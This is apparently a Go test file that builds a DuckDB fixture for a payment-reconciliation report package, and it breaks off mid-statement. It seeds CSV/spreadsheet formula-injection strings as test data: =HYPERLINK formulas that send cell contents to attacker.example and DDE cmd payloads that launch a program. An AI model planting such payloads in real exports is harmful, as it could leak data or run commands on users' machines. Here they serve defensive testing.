package reports

import (
	"database/sql"
	"encoding/json"
	"path/filepath"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/reconcile/reconcile/internal/store"
	"github.com/reconcile/reconcile/queries"
)

// Injection cases: text from the platform or a merchant that a spreadsheet
// would take for a formula if it were written as one.
const (
	evilGroupName = `=HYPERLINK("http://attacker.example/?"&A1,"Click")`
	evilEntity    = `+1-1`
	evilError     = "@SUM(1+1)*cmd|' /C calc'!A0"
	evilDetail    = `{"note":"-2+3","tab":"\t=1","cr":"\r=1"}`
	evilClientRef = `=cmd|' /C calc'!A0`
	evilReason    = `=HYPERLINK("http://attacker.example/?"&A1,"Approved")`
)

// jsonString quotes s as a JSON string.
func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// fixtureRun is the run the fixture database holds: 2026-11-20, compared
// with 2026-11-19, partial (one member failed).
var fixtureRun = Publication{
	RunID:        "2026-11-20",
	BusinessDate: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC),
	Window: store.Window{
		Start: time.Date(2026, 11, 17, 0, 0, 0, 0, time.UTC),
		End:   time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC),
	},
	StartedAt:  time.Date(2026, 11, 21, 2, 0, 0, 0, time.UTC),
	FinishedAt: time.Date(2026, 11, 21, 2, 3, 4, 0, time.UTC),
	Status:     "partial",
	Members:    map[string]int{"ok": 3, "failed": 1},
	Version:    "test",
	Source:     SourcePlatform,
	// Checked alarms: two raised (the Summary lists them), one clear.
	Alarms: []Alarm{
		{Name: "members_lost", Raised: true, Value: 1, Message: "1 member reconciled by 2026-11-19 is missing or failed today: m4 (failed)"},
		{Name: "kind_count", Kind: "skipped_cycle", Value: 2, Limit: 10, Message: "2 findings, at most 10 allowed"},
		{Name: "kind_amount", Kind: "subscription_suspended", Currency: "CHF", Raised: true, Value: 1234567.89, Limit: 1000,
			Message: "CHF 1,234,567.89 in findings, above the limit of CHF 1,000.00"},
	},
}

// fixtureDB is a real DuckDB file with the product's schema and a small,
// fixed run: two groups sharing member m2, four currencies, findings in
// every state, a failed member, and the injection cases above.
func fixtureDB(t testing.TB) *sql.DB {
	t.Helper()
	db, err := sql.Open("duckdb", filepath.Join(t.TempDir(), "fixture.duckdb"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	db.SetMaxOpenConns(1) // the schema sets TimeZone per connection
	stmts := []string{queries.Schema(),
		`INSERT INTO groups (group_id, organization_id, name, run_id, loaded_at) VALUES
			('1001', 'org', 'Region 1', '2026-11-20', TIMESTAMPTZ '2026-11-21 02:00:00+00'),
			('1002', 'org', ` + sqlString(evilGroupName) + `, '2026-11-20', TIMESTAMPTZ '2026-11-21 02:00:00+00')`,
		`INSERT INTO group_members VALUES
			('1001', 'm1', '2026-11-20'), ('1001', 'm2', '2026-11-20'),
			('1002', 'm2', '2026-11-20'), ('1002', 'm3', '2026-11-20'), ('1002', 'm4', '2026-11-20'),
			('1003', 'm1', '2026-11-01')`, // an old listing of a group this run was not asked for
		`INSERT INTO runs (run_id, business_date, shard, window_start, window_end, started_at, finished_at, status, attempts,
			members_total, members_ok, members_failed, members_skipped, requests, retries, findings, error, version, previous_run) VALUES
			('2026-11-19', DATE '2026-11-19', '0/1', TIMESTAMPTZ '2026-11-16 00:00:00+00', TIMESTAMPTZ '2026-11-20 00:00:00+00',
			 TIMESTAMPTZ '2026-11-20 02:00:00+00', TIMESTAMPTZ '2026-11-20 02:02:00+00', 'ok', 1, 4, 4, 0, 0, 100, 0, 3, NULL, 'test', NULL),
			('2026-11-20', DATE '2026-11-20', '0/1', TIMESTAMPTZ '2026-11-17 00:00:00+00', TIMESTAMPTZ '2026-11-21 00:00:00+00',
			 TIMESTAMPTZ '2026-11-21 02:00:00+00', TIMESTAMPTZ '2026-11-21 02:03:04+00', 'partial', 1, 4, 3, 1, 0, 120, 2, 6,
			 '1 problem(s); first: look up BIN 411111: 503', 'test', '2026-11-19')`,
		`INSERT INTO run_members (run_id, merchant_id, status, error) VALUES
			('2026-11-20', 'm1', 'ok', NULL), ('2026-11-20', 'm2', 'ok', NULL), ('2026-11-20', 'm3', 'ok', NULL),
			('2026-11-20', 'm4', 'failed', ` + sqlString(evilError) + `)`,
		`INSERT INTO subscription_payments (merchant_id, payment_id, subscription_id, status, payment_date, billing_amount,
			setup_fee, surcharge_amount, currency, run_id, loaded_at) VALUES
			('m1', 'p1', 's1', 'PAID', TIMESTAMPTZ '2026-11-18 10:00:00+00', 100.00, 5.00, NULL, 'USD', 'r', now()),
			('m1', 'p2', 's1', 'PAID', TIMESTAMPTZ '2026-11-19 10:00:00+00', 1234.50, NULL, 0.25, 'USD', 'r', now()),
			('m2', 'p3', 's2', 'PAID', TIMESTAMPTZ '2026-11-20 10:00:00+00', 99.99, NULL, NULL, 'EUR', 'r', now()),
			('m3', 'p4', 's3', 'PAID', TIMESTAMPTZ '2026-11-20 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m3', 'p5', 's3', 'FAILED', TIMESTAMPTZ '2026-11-19 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m3', 'p6', 's3', 'SCHEDULED', TIMESTAMPTZ '2026-12-20 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m4', 'p7', 's4', 'PAID', TIMESTAMPTZ '2026-11-20 11:00:00+00', 50, NULL, NULL, 'GBP', 'r', now())`,
		`INSERT INTO bin_attributes (bin, lookup_status, funding_source, looked_up_at) VALUES
			('411111', 'COMPLETED', 'CREDIT', now()), ('522222', 'COMPLETED', 'DEBIT', now()), ('600000', 'NO MATCH', NULL, now())`,
		`INSERT INTO transactions (merchant_id, transaction_id, submit_time, amount, currency, card_bin, run_id, loaded_at) VALUES
			('m1', 't1', TIMESTAMPTZ '2026-11-18 10:00:01+00', 105.00, 'USD', '411111', 'r', now()),
			('m1', 't2', TIMESTAMPTZ '2026-11-19 10:00:01+00', 1234.75, 'USD', '411111', 'r', now()),
			('m2', 't3', TIMESTAMPTZ '2026-11-20 10:00:01+00', 99.99, 'EUR', '522222', 'r', now()),
			('m3', 't4', TIMESTAMPTZ '2026-11-20 11:00:01+00', 1500, 'JPY', '600000', 'r', now()),
			('m3', 't5', TIMESTAMPTZ '2026-11-10 11:00:01+00', 1, 'JPY', '411111', 'r', now())`,
		// Findings of every kind, each with the detail its check writes
		// (queries/findings/<kind>.sql) and the rows its sheet joins, so
		// that every column of every kind's sheet is filled somewhere.
		`INSERT INTO findings (run_id, business_date, kind, merchant_id, entity_id, group_id, amount, currency, detail, first_seen_run, state) VALUES
			('2026-11-20', DATE '2026-11-20', 'skipped_cycle', 'm1', 'p9', '1001', 12.34, 'USD', '{"subscription_id":"s1","billing_cycle":3,"payment_date":"2026-11-25 10:00:00+00"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'skipped_cycle', 'm2', ` + sqlString(evilEntity) + `, '1001', 7.50, 'EUR', '{"subscription_id":"s2","billing_cycle":2,"payment_date":"2026-11-28 09:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'amount_mismatch', 'm3', 'p4', '1002', 1500, 'JPY', '{"subscription_id":"s3","transaction_id":"t4","payment_date":"2026-11-20 11:00:00+00","transaction_amount":1499,"transaction_currency":"JPY","difference":-1}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'subscription_suspended', 'm2', 's2', '1001', 1234567.89, 'CHF', '{"code":"SUB-2","plan_id":"pl2","customer_id":"cust-2","start_date":"2025-01-10 00:00:00+00"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'bin_unresolved', 'm3', '600000', '1002', NULL, NULL, '{"lookup_status":"NO MATCH","occurrences":1}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'subscription_delinquent', 'm3', 's3', '1002', 15, 'GBP', '{"code":"SUB-3","plan_id":"pl3","customer_id":"cust-3","start_date":"2026-01-05 00:00:00+00"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'subscription_delinquent', 'm1', 's7', '1001', 20, 'USD', '{}', '2026-11-19', 'resolved'),
			('2026-11-19', DATE '2026-11-19', 'subscription_delinquent', 'm1', 's7', '1001', 20, 'USD', '{}', '2026-11-19', 'new'),
			('2026-11-20', DATE '2026-11-20', 'paid_without_transaction', 'm2', 'p-old', '1001', 3.00, 'EUR', ` + sqlString(evilDetail) + `, '2026-11-18', 'resolved'),
			('2026-11-20', DATE '2026-11-20', 'level3_not_transmitted', 'm1', 'cap-l3n', '1001', 250.00, 'USD', '{"call_kind":"capture","path":"/pts/v2/payments/auth-1/captures","time":"2026-11-18 08:00:00+00","purchase_level":"3","line_items":2,"file":"journal-m1.ndjson","line":10,"client_reference":"ORD-77"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'commercial_card_without_level3', 'm2', 'sale-cc', '1001', 99.00, 'EUR', '{"call_kind":"sale","path":"/pts/v2/payments","time":"2026-11-19 14:00:00+00","bin":"522222","card_product":"Corporate","funding_source":"DEBIT","file":"journal-m2.ndjson","line":1,"client_reference":"ORD-CC-1"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'level3_incomplete', 'm1', 'cap-1', '1001', 120.00, 'USD', '{"call_kind":"capture","time":"2026-11-18 10:00:00+00","missing":"lineItems[1].unitOfMeasure","percent_rates":"lineItems[0].taxDetails[0].rate=8.25","line_items":2,"level3_status":"Y","file":"journal-m1.ndjson","line":12,"client_reference":"ORD-1001"}', '2026-11-19', 'acknowledged'),
			('2026-11-20', DATE '2026-11-20', 'level2_missing_po', 'm1', 'cap-po', '1001', 80.00, 'USD', '{"call_kind":"capture","time":"2026-11-19 08:00:00+00","bin":"411111","card_product":"Visa Purchasing","purchase_level":"2","file":"journal-m1.ndjson","line":13,"client_reference":"PO-less-1"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'mit_without_prior_cit', 'm1', 'mit-1', '1001', 10.00, 'USD', '{"call_kind":"sale","time":"2026-11-19 03:00:00+00","bin":"411111","last4":"1111","previous_transaction_id":"nt-1","reason":"7","file":"journal-m1.ndjson","line":14,"client_reference":"SUB-1-C8"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'mit_missing_reason', 'm1', 'mit-2', '1001', 11.00, 'USD', '{"call_kind":"authorization","time":"2026-11-19 03:10:00+00","commerce_indicator":"recurring","previous_transaction_id":"nt-2","response_status":"AUTHORIZED","file":"journal-m1.ndjson","line":15,"client_reference":"SUB-1-C9"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'mit_missing_previous_transaction', 'm1', 'mit-3', '1001', 12.00, 'USD', '{"call_kind":"sale","time":"2026-11-19 03:20:00+00","commerce_indicator":"recurring","reason":"7","response_status":"AUTHORIZED","file":"journal-m1.ndjson","line":16,"client_reference":"SUB-1-C10"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'recurring_interval_over_year', 'm1', 'mit-4', '1001', 13.00, 'USD', '{"time":"2026-11-18 03:30:00+00","previous_transaction_id":"cit-0","previous_id":"mit-0","previous_time":"2025-10-02 03:30:00+00","previous_from":"same card","days":412,"file":"journal-m1.ndjson","line":17,"client_reference":"SUB-1-C11"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'healthcare_card_without_amounts', 'm2', 'hc-1', '1001', 45.00, 'EUR', '{"call_kind":"sale","time":"2026-11-19 15:00:00+00","bin":"522222","card_product":"HSA Debit","product_subtype":null,"response_status":"DECLINED","file":"journal-m2.ndjson","line":2,"client_reference":"RX-7"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'healthcare_amounts_exceed_total', 'm1', 'hc-2', '1001', 100.00, 'USD', '{"call_kind":"authorization","time":"2026-11-19 16:00:00+00","healthcare_amount":120.00,"other_healthcare_amounts":30.00,"entries":2,"response_status":"AUTHORIZED","file":"journal-m1.ndjson","line":18,"client_reference":"RX-8"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'bnpl_session_stale', 'm1', 'sess-1', '1001', 200.00, 'USD', '{"time":"2026-11-19 18:00:00+00","country":"US","age_hours":30,"file":"journal-m1.ndjson","line":19,"client_reference":"CART-5"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'bnpl_authorized_not_captured', 'm1', 'bnpl-auth-1', '1001', 300.00, 'USD', '{"time":"2026-11-17 12:00:00+00","country":"US","session_token_sent":true,"file":"journal-m1.ndjson","line":20,"client_reference":"CART-6"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'bnpl_unsupported_country_currency', 'm2', 'bnpl-2', '1001', 50.00, 'EUR', '{"call_kind":"bnpl_session","time":"2026-11-20 09:00:00+00","country":"DE","currency":"EUR","response_status":"PENDING","file":"journal-m2.ndjson","line":3,"client_reference":"CART-DE-1"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'installment_not_cancelled_after_refund', 'm1', 'inst-1', '1001', 400.00, 'USD', '{"plan_id":"plan-3x","accepted_at":"2026-10-01 10:00:00+00","authorization_id":"auth-9","reversed_at":null,"refunded_at":"2026-11-18 10:00:00+00"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'installment_refunds_exceed_capture', 'm2', 'inst-2', '1001', 20.00, 'EUR', '{"plan_id":"plan-4x","authorization_id":"auth-10","captured":100.00,"refunded_captures":80.00,"refunded_through_plan":40.00,"last_refund":"2026-11-19 12:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'capture_not_settled', 'm1', 'cap-1', '1001', 20.00, 'USD', '{"captured_at":"2026-11-12 10:00:00+00","status":"Pending","seen_as":"listed as not settled","business_days":6,"settlement_days":3}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'settlement_without_capture', 'm2', 'rq-1', '1001', 25.00, 'EUR', '{"transaction_type":"Purchases","request_time":"2026-11-18 10:00:00+00","batch_id":"b1","batch_time":"2026-11-19 00:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'settled_amount_mismatch', 'm1', 'tx-7', '1001', 11.00, 'USD', '{"transaction_amount":10.00,"transaction_currency":"USD","difference":1.00,"batch_id":"b2","batch_time":"2026-11-19 00:00:00+00","request_time":"2026-11-18 09:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'funding_tieout_mismatch', 'm1', '1001/2026-11-19/USD', '1001', -1.00, 'USD', '{"scope_type":"group","scope_id":"1001","group_name":"Region 1","funding_day":"2026-11-19 00:00:00+00","purchases":100.00,"refunds":10.00,"fees":3.00,"chargebacks":5.00,"funded":81.00,"expected":82.00}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'paid_without_transaction', 'm1', 'p2x', '1001', 105.00, 'USD', '{"subscription_id":"s1","transaction_id":"t-missing","billing_cycle":4,"payment_date":"2026-11-19 10:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'cleared_below_sent_level', 'm1', 'cap-dg', '1001', 120.00, 'USD', '{"time":"2026-11-18 10:00:00+00","transaction_type":"CAPTURE","sent_level":"3","cleared_level":"1","billback_reason_code":"X","billback_reason":"Did not qualify at merchant price level","fee_expected":2.38,"fee_charged":3.28,"fee_difference":0.90,"fee_currency":"USD"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'subscription_chargeback', 'm1', 'tx-cb', '1001', 19.99, 'USD', '{"time":"2026-11-20 10:00:00+00","reason_code":"13.2","response_due":"2026-12-10 10:00:00+00","subscription_id":"s1","billing_cycle":4,"payment_id":"p2","payment_date":"2026-11-01 09:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'chargeback_share_exceeded', 'm2', 'm2', '1001', 99.99, 'EUR', '{"time":"2026-11-20 10:00:00+00","chargebacks":1,"captures":1,"share":1.0,"threshold":0.009,"reason_codes":"10.4","first_time":"2026-11-20 10:00:00+00"}', '2026-11-20', 'new'),
			-- three USD findings whose due dates run against their order
			-- on the sheet (by member, then date), and one in EUR
			('2026-11-20', DATE '2026-11-20', 'missed_cycle', 'm1', 's1:5', '1001', 10.00, 'USD', '{"subscription_id":"s1","billing_cycle":5,"due_date":"2026-10-01 10:00:00+00","status":"ACTIVE","period":"1 M","start_date":"2026-06-01 10:00:00+00","last_processed_cycle":4}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'missed_cycle', 'm1', 's1:4', '1001', 10.00, 'USD', '{"subscription_id":"s1","billing_cycle":4,"due_date":"2026-09-01 10:00:00+00","status":"ACTIVE","period":"1 M","start_date":"2026-06-01 10:00:00+00","last_processed_cycle":3}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'missed_cycle', 'm1', 's7:2', '1001', 25.50, 'USD', '{"subscription_id":"s7","billing_cycle":2,"due_date":"2026-11-15 00:00:00+00","status":"ACTIVE","period":"1 W","start_date":"2026-11-08 00:00:00+00","last_processed_cycle":1}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'missed_cycle', 'm2', 's2:9', '1001', 9.99, 'EUR', '{"subscription_id":"s2","billing_cycle":9,"due_date":"2026-11-10 09:00:00+00","status":"ACTIVE","period":"1 M","start_date":"2025-01-10 00:00:00+00","last_processed_cycle":8}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'double_charge', 'm1', 's1:3', '1001', 10.00, 'USD', '{"subscription_id":"s1","billing_cycle":3,"payments":["p10","p11"],"transactions":["t10","t11"],"payment_dates":["2026-08-01 10:00:00+00","2026-11-19 10:00:00+00"]}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'plan_amount_mismatch', 'm2', 'p20', '1001', 12.00, 'EUR', '{"subscription_id":"s2","billing_cycle":8,"payment_date":"2026-11-19 09:00:00+00","transaction_id":"t3","subscription_amount":10.00,"subscription_currency":"EUR","plan_id":"pl2","plan_amount":11.00,"plan_currency":"EUR","difference":2.00}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'retry_schedule_breach', 'm1', 's1:7', '1001', 10.00, 'USD', '{"subscription_id":"s1","billing_cycle":7,"unit":"M","retries":6,"retry_limit":5,"retry_interval":"2 days","off_schedule":1,"attempts":["2026-11-08 10:00:00+00","2026-11-10 10:00:00+00","2026-11-12 10:00:00+00","2026-11-14 10:00:00+00","2026-11-16 10:00:00+00","2026-11-17 10:00:00+00","2026-11-19 10:00:00+00"]}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'retries_exhausted', 'm2', 's2:8', '1001', 30.00, 'EUR', '{"subscription_id":"s2","billing_cycle":8,"status":"SUSPENDED","retries":5,"retry_limit":5,"first_failed_at":"2026-11-09 09:00:00+00","last_retry_at":"2026-11-19 09:00:00+00"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'interval_exceeds_12_months', 'm3', 's3', '1002', 1500, 'JPY', '{"period":"18 M","plan_id":"pl3","period_exceeds_12_months":true,"latest_payment":"2026-11-20 11:00:00+00","previous_payment":"2025-05-20 11:00:00+00","status":"ACTIVE"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'retry_after_do_not_retry', 'm2', 'mc-2', '1001', 29.90, 'EUR', '{"time":"2026-11-19 12:00:00+00","source":"journal","call_kind":"sale","declined":false,"network":"MASTERCARD","bin":"522222","last4":"4444","refused_id":"mc-1","refused_time":"2026-11-16 10:00:00+00","refused_source":"journal","merchant_advice_code":"03","merchant_advice_code_raw":"03","response_code":"05","reason_code":null,"file":"journal-m2.ndjson","line":4,"subscription_id":null,"payment_id":null}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'retry_after_do_not_retry', 'm1', 't-r5', '1001', 10.00, 'USD', '{"time":"2026-11-18 10:00:00+00","source":"billing","call_kind":"subscription_payment","declined":true,"network":"VISA","bin":"411111","last4":"1111","refused_id":"t-r4","refused_time":"2026-11-11 10:00:00+00","refused_source":"billing","merchant_advice_code":null,"merchant_advice_code_raw":null,"response_code":null,"reason_code":"205","file":null,"line":null,"subscription_id":"s1","payment_id":"p-r5"}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'reattempts_over_network_limit', 'm1', 't-r21', '1001', 10.00, 'USD', '{"time":"2026-11-19 10:00:00+00","source":"billing","call_kind":"subscription_payment","initiator":"merchant","network":"VISA","bin":"411111","last4":"1111","limit_network":"VISA","allowed":20,"window":"30 days","counted":"merchant-initiated","reattempts":21,"first_counted":"2026-10-25 10:00:00+00","file":null,"line":null,"subscription_id":"s1","payment_id":"p-r21"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'prepaid_card_on_subscription', 'm2', 's2', '1001', 9.99, 'EUR', '{"status":"ACTIVE","code":"SUB-2","customer_id":"cust-2","transaction_id":"t3","submit_time":"2026-11-20 10:00:01+00","bin":"522222","card_product":"Prepaid Reloadable"}', '2026-11-20', 'new')`,
		`UPDATE findings SET ack_owner = 'Jane Doe', ack_reason = ` + sqlString(evilReason) + `, ack_until = DATE '2026-12-15',
			ack_ticket = 'FIN-42' WHERE state = 'acknowledged'`,
		// What the kinds' sheets join: the subscriptions, plans, merchants'
		// names, ageing, journal lines and transactions of the findings.
		`INSERT INTO subscriptions (merchant_id, subscription_id, code, plan_id, name, status, customer_id, client_reference,
			billing_amount, currency, run_id, loaded_at, raw) VALUES
			('m1', 's1', 'SUB-1', 'pl1', 'Gold monthly', 'ACTIVE', 'cust-1', 'ORD-S1', 10.00, 'USD', 'r', now(), NULL),
			('m1', 's7', 'SUB-7', 'pl1', 'Gold weekly', 'ACTIVE', 'cust-7', 'ORD-S7', 25.50, 'USD', 'r', now(), NULL),
			('m2', 's2', 'SUB-2', 'pl2', 'Silber', 'SUSPENDED', 'cust-2', ` + sqlString(evilClientRef) + `, 10.00, 'EUR', 'r', now(),
			 '{"id":"s2","orderInformation":{"billTo":{"firstName":"Jürgen","lastName":"Groß"}}}'),
			('m3', 's3', 'SUB-3', 'pl3', 'Legacy', 'DELINQUENT', 'cust-3', 'ORD-S3', 1500, 'JPY', 'r', now(),
			 '{"id":"s3","orderInformation":{"billTo":{"lastName":"Sato"}}}')`,
		`INSERT INTO plans (merchant_id, plan_id, code, name, status, billing_amount, currency, run_id, loaded_at) VALUES
			('m1', 'pl1', 'PLN-1', 'Gold', 'ACTIVE', 10.00, 'USD', 'r', now()),
			('m2', 'pl2', 'PLN-2', 'Silber', 'ACTIVE', 11.00, 'EUR', 'r', now()),
			('m3', 'pl3', 'PLN-3', 'Legacy 18 months', 'ACTIVE', 1500, 'JPY', 'r', now())`,
		`INSERT INTO merchant_names (run_id, business_date, merchant_id, name, seen_at) VALUES
			('2026-11-20', DATE '2026-11-20', 'm1', 'Acme Books', TIMESTAMPTZ '2026-11-19 10:00:00+00'),
			('2026-11-20', DATE '2026-11-20', 'm2', 'Müller GmbH', TIMESTAMPTZ '2026-11-19 10:00:00+00'),
			('2026-11-19', DATE '2026-11-19', 'm3', 'an older run''s name, not this one''s', TIMESTAMPTZ '2026-11-18 10:00:00+00')`,
		`INSERT INTO delinquency_ageing (run_id, business_date, merchant_id, subscription_id, status, failed_cycle, first_failed_at,
			days_since_first_failure, age_bucket, retries_done, retries_remaining, last_attempt_at, next_retry_at, amount_at_risk, currency) VALUES
			('2026-11-20', DATE '2026-11-20', 'm3', 's3', 'DELINQUENT', 6, TIMESTAMPTZ '2026-11-14 11:00:00+00', 6, '1-7 days', 2, 3,
			 TIMESTAMPTZ '2026-11-18 11:00:00+00', TIMESTAMPTZ '2026-11-22 11:00:00+00', 1500, 'JPY')`,
		`UPDATE bin_attributes SET brand = 'VISA', card_product = 'Visa Classic' WHERE bin = '411111'`,
		`UPDATE bin_attributes SET brand = 'MASTERCARD', card_product = 'Debit' WHERE bin = '522222'`,
		// The call a retry finding joins for its order number (read from
		// the request into client_reference by the import).
		`INSERT INTO journal (merchant_id, file, line, time, status, call_kind, transaction_id, amount, currency, card_bin, card_last4,
			response_status, request, client_reference, file_sha256, imported_at) VALUES
			('m2', 'journal-m2.ndjson', 4, TIMESTAMPTZ '2026-11-19 12:00:00+00', 201, 'sale', 'mc-2', 29.90, 'EUR', '522222', '4444',
			 'AUTHORIZED', '{"clientReferenceInformation":{"code":"ORD-MC-2"}}', 'ORD-MC-2', 's', now())`,
		`INSERT INTO transactions (merchant_id, transaction_id, submit_time, amount, currency, card_bin, card_last4, customer_id, run_id, loaded_at) VALUES
			('m1', 't-cap-1', TIMESTAMPTZ '2026-11-18 10:00:00+00', 120.00, 'USD', '522222', '4444', 'cust-9', 'r', now()),
			('m1', 'mit-1', TIMESTAMPTZ '2026-11-19 03:00:00+00', 10.00, 'USD', '411111', '1111', 'cust-1', 'r', now()),
			('m2', 'mc-2', TIMESTAMPTZ '2026-11-19 12:00:00+00', 29.90, 'EUR', '522222', '4444', 'cust-2', 'r', now())`,
		`UPDATE transactions SET card_last4 = '4444' WHERE transaction_id = 't3'`,
		`INSERT INTO journal (merchant_id, file, line, time, status, call_kind, transaction_id, parent_id, amount, currency, card_bin, card_last4,
			file_sha256, imported_at) VALUES
			('m1', 'journal-m1.ndjson', 10, TIMESTAMPTZ '2026-11-18 08:00:00+00', 201, 'capture', 'cap-l3n', NULL, 250.00, 'USD', '411111', '1111', 's', now()),
			('m2', 'journal-m2.ndjson', 1, TIMESTAMPTZ '2026-11-19 14:00:00+00', 201, 'sale', 'sale-cc', NULL, 99.00, 'EUR', '522222', '4444', 's', now()),
			-- a capture without the card: from the authorization it follows
			('m1', 'journal-m1.ndjson', 12, TIMESTAMPTZ '2026-11-18 10:00:00+00', 201, 'capture', 'cap-1', 't-cap-1', 120.00, 'USD', NULL, NULL, 's', now()),
			('m1', 'journal-m1.ndjson', 13, TIMESTAMPTZ '2026-11-19 08:00:00+00', 201, 'capture', 'cap-po', NULL, 80.00, 'USD', '411111', '1111', 's', now()),
			-- an MIT whose card is in the platform's record of it
			('m1', 'journal-m1.ndjson', 14, TIMESTAMPTZ '2026-11-19 03:00:00+00', 201, 'sale', 'mit-1', NULL, 10.00, 'USD', NULL, NULL, 's', now()),
			('m1', 'journal-m1.ndjson', 15, TIMESTAMPTZ '2026-11-19 03:10:00+00', 201, 'authorization', 'mit-2', NULL, 11.00, 'USD', '411111', '1111', 's', now()),
			('m1', 'journal-m1.ndjson', 16, TIMESTAMPTZ '2026-11-19 03:20:00+00', 201, 'sale', 'mit-3', NULL, 12.00, 'USD', '411111', '1111', 's', now()),
			('m1', 'journal-m1.ndjson', 17, TIMESTAMPTZ '2026-11-18 03:30:00+00', 201, 'sale', 'mit-4', NULL, 13.00, 'USD', '411111', '1111', 's', now()),
			('m2', 'journal-m2.ndjson', 2, TIMESTAMPTZ '2026-11-19 15:00:00+00', 201, 'sale', 'hc-1', NULL, 45.00, 'EUR', '522222', '4444', 's', now()),
			('m1', 'journal-m1.ndjson', 18, TIMESTAMPTZ '2026-11-19 16:00:00+00', 201, 'authorization', 'hc-2', NULL, 100.00, 'USD', '411111', '1111', 's', now())`,
		// An acknowledgement in force (the acknowledged level3_incomplete
		// finding, its reason a formula-like text), one whose finding this
		// run did not report, and their audit trail: one change before the
		// previous run finished (not on the sheet), the others after.
		`INSERT INTO acknowledgements (kind, merchant_id, entity_id, reason, owner, until, ticket, amount_recorded, amount, currency,
			source, created_at, created_by, updated_at, updated_by) VALUES
			('level3_incomplete', 'm1', 'cap-1', ` + sqlString(evilReason) + `, 'Jane Doe', DATE '2026-12-15', 'FIN-42', true, 120.00, 'USD',
			 'command', TIMESTAMPTZ '2026-11-19 09:00:00+00', 'jdoe', TIMESTAMPTZ '2026-11-20 09:00:00+00', 'jdoe'),
			('bin_unresolved', 'm1', '999999', 'Issuer confirmed the BIN range is new', 'Ops', DATE '2027-01-31', NULL, false, NULL, NULL,
			 'file', TIMESTAMPTZ '2026-11-20 09:30:00+00', 'cron', TIMESTAMPTZ '2026-11-20 09:30:00+00', 'cron')`,
		`INSERT INTO acknowledgement_audit (seq, changed_at, changed_by, action, source, run_id, kind, merchant_id, entity_id, before, after) VALUES
			(1, TIMESTAMPTZ '2026-11-19 09:00:00+00', 'jdoe', 'acknowledge', 'command', NULL, 'level3_incomplete', 'm1', 'cap-1', NULL,
			 '{"owner":"Jane Doe","until":"2026-11-30","reason":"Mapping fix in release 4.2","ticket":"FIN-42","amount":"120.00","currency":"USD"}'),
			(2, TIMESTAMPTZ '2026-11-20 09:00:00+00', 'jdoe', 'change', 'command', NULL, 'level3_incomplete', 'm1', 'cap-1',
			 '{"owner":"Jane Doe","until":"2026-11-30","reason":"Mapping fix in release 4.2","ticket":"FIN-42","amount":"120.00","currency":"USD"}',
			 ` + sqlString(`{"owner":"Jane Doe","until":"2026-12-15","reason":`+jsonString(evilReason)+`,"ticket":"FIN-42","amount":"120.00","currency":"USD"}`) + `),
			(3, TIMESTAMPTZ '2026-11-20 09:30:00+00', 'cron', 'acknowledge', 'file acknowledgements.yaml', '2026-11-20', 'bin_unresolved', 'm1', '999999', NULL,
			 '{"owner":"Ops","until":"2027-01-31","reason":"Issuer confirmed the BIN range is new","ticket":null,"amount":null,"currency":null}'),
			(4, TIMESTAMPTZ '2026-11-21 02:01:00+00', 'reconcile', 'reopen', 'run', '2026-11-20', 'skipped_cycle', 'm1', 'p9',
			 '{"owner":"Sam","until":"2026-12-01","reason":"Customer asked to skip","ticket":null,"amount":"10.00","currency":"USD"}',
